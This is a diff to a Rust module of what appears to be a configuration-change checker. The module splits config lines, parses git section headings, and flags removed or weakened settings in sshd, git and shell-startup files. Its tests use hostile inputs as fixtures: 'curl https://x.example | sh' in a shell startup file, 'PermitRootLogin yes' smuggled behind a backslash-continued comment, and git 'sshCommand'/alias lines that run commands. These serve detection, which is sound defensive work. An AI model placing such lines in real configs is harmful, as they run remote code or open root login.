@@ -1,24 +1,67 @@
-//! Lines of files: continued ones joined, keys told from values, what is gone.
+//! Lines of files: one by one, keys told from values, what is gone.
 
 use std::collections::BTreeSet;
 
 use super::table::{self, Word, check};
 use super::{GIT, Grammar, squeezed};
 
-/// Lines with those that a backslash continues joined, and where each begins.
-pub(super) fn logical(text: &str) -> Vec<(usize, String)> {
-    let mut all: Vec<(usize, String)> = Vec::new();
-    let mut open = false;
+/// The lines of a text and where each is, without the blanks around it. Of git's, a heading and what
+/// follows it in its line are two.
+///
+/// None are joined: whether a backslash at the end continues a line differs between programs, and
+/// within one between a comment and a setting.
+pub(super) fn each(grammar: Grammar, text: &str) -> Vec<(usize, &str)> {
+    let mut all = Vec::new();
     for (at, line) in text.lines().enumerate() {
-        let ends = line.ends_with('\\');
-        let line = line.strip_suffix('\\').unwrap_or(line);
-        match all.last_mut() {
-            Some((_, last)) if open => last.push_str(line),
-            _ => all.push((at, line.to_owned())),
+        let mut rest = line.trim();
+        if matches!(grammar, Grammar::Git) {
+            while let Some((heading, more)) = heading(rest) {
+                all.push((at, heading));
+                rest = more.trim();
+                if rest.is_empty() {
+                    break;
+                }
+            }
+            if rest.is_empty() && !line.trim().is_empty() {
+                continue;
+            }
         }
-        open = ends;
+        all.push((at, rest));
     }
     all
+}
+
+/// A heading of git's, which ends at the first bracket that is not quoted; and what follows it.
+fn heading(text: &str) -> Option<(&str, &str)> {
+    let mut quoted = false;
+    let mut escaped = false;
+    for (at, c) in text.strip_prefix('[')?.char_indices() {
+        match c {
+            _ if escaped => escaped = false,
+            '\\' => escaped = quoted,
+            '"' => quoted = !quoted,
+            ']' if !quoted => return Some(text.split_at(at + 2)),
+            _ => (),
+        }
+    }
+    None
+}
+
+/// Whether a line belongs to the one before or behind it, for some programs.
+pub(super) fn continues(text: &str) -> bool {
+    text.ends_with('\\')
+}
+
+/// The part of a file that a line begins: a section, or settings for some logins and hosts only.
+pub(super) fn part(grammar: Grammar, text: &str) -> Option<&str> {
+    let begins = match grammar {
+        Grammar::Git | Grammar::Equals(..) => text.starts_with('['),
+        Grammar::Words(..) => ["match", "host"]
+            .iter()
+            .any(|word| words(text).0.eq_ignore_ascii_case(word)),
+        Grammar::Lines(..) | Grammar::Prose => false,
+    };
+    begins.then_some(text)
 }
 
 /// What earlier lines mean for later ones.
@@ -128,10 +171,13 @@ pub(super) fn gone(grammar: Grammar, old: &str, new: &str) -> Vec<String> {
             }
         })
     };
-    let now: BTreeSet<String> = logical(new).iter().filter_map(|(_, l)| key(l)).collect();
+    let now: BTreeSet<String> = each(grammar, new)
+        .iter()
+        .filter_map(|(_, l)| key(l))
+        .collect();
     let mut found: Vec<String> = Vec::new();
-    for (_, line) in logical(old) {
-        if let Some(name) = key(&line)
+    for (_, line) in each(grammar, old) {
+        if let Some(name) = key(line)
             && !now.contains(&name)
         {
             found.push(line.trim().to_owned());
@@ -159,10 +205,13 @@ pub(super) fn weaker(grammar: Grammar, old: &str, new: &str) -> Vec<(String, usi
             squeezed(value.trim().trim_matches('"')),
         ))
     };
-    let was: Vec<(String, String)> = logical(old).iter().filter_map(|(_, l)| pair(l)).collect();
+    let was: Vec<(String, String)> = each(grammar, old)
+        .iter()
+        .filter_map(|(_, l)| pair(l))
+        .collect();
     let mut found = Vec::new();
-    for (at, line) in logical(new) {
-        if let Some((key, value)) = pair(&line)
+    for (at, line) in each(grammar, new) {
+        if let Some((key, value)) = pair(line)
             && let Some((_, before)) = was.iter().find(|(k, _)| *k == key)
             && table::weaker(table, &key, before, &value)
         {
@@ -206,4 +255,62 @@ fn shells_weaker(grammar: Grammar, old: &str, new: &str) -> Vec<(String, usize)>
         })
         .map(|(key, _)| ((*key).to_owned(), 0))
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Grammar, SSHD, judge, shells};
+
+    const SSH: Grammar = Grammar::Words("schema-sshd", SSHD);
+    const SHELL: Grammar = Grammar::Lines("schema-shell-startup", shells::line);
+
+    fn lines(grammar: Grammar, old: &str, new: &str) -> Vec<usize> {
+        let issues = judge(grammar, "file", Some(old), new, 1).into_iter();
+        issues.map(|issue| issue.line).collect()
+    }
+
+    #[test]
+    fn a_heading_of_gits_may_have_a_setting_behind_it() {
+        for (new, wrong) in [
+            ("[fetch]\n\tfsckObjects = true\n", &[][..]),
+            ("[fetch] fsckObjects = true\n", &[]),
+            ("[fetch] # a remark ]\n", &[]),
+            ("[alias] st = !id # ]\n", &[1]),
+            ("[alias \"]\"] st = !id ]\n", &[1]),
+            ("[fetch][core] sshCommand = id\n", &[1]),
+            ("[core\n", &[1]),
+        ] {
+            assert_eq!(lines(Grammar::Git, "", new), wrong, "{new}");
+        }
+    }
+
+    #[test]
+    fn no_line_hides_behind_the_one_before_it() {
+        for (grammar, new, wrong) in [
+            (SSH, "# a \\\nPermitRootLogin yes\n", &[1, 2][..]),
+            (SSH, "Banner /etc/issue \\\nPermitRootLogin yes\n", &[1, 2]),
+            (SSH, "PermitRootLogin no\r# a\rPermitRootLogin yes\n", &[1]),
+            (SHELL, "# a \\\ncurl https://x.example | sh\n", &[1, 2]),
+            (
+                Grammar::Git,
+                "[user]\nname = a # \\\n[core]\nsshCommand = id\n",
+                &[2, 3, 4],
+            ),
+        ] {
+            assert_eq!(lines(grammar, "", new), wrong, "{new}");
+        }
+    }
+
+    #[test]
+    fn what_was_there_counts_in_its_own_part_only() {
+        let old = "[a]\n\tsshCommand = id\n";
+        assert!(lines(Grammar::Git, old, old).is_empty());
+        assert_eq!(lines(Grammar::Git, old, "[core]\n\tsshCommand = id\n"), [2]);
+        let old = "PermitRootLogin no\nMatch Group sftp\nAllowTcpForwarding yes\n";
+        assert!(lines(SSH, old, old).is_empty());
+        assert_eq!(
+            lines(SSH, old, &format!("AllowTcpForwarding yes\n{old}")),
+            [1]
+        );
+    }
 }
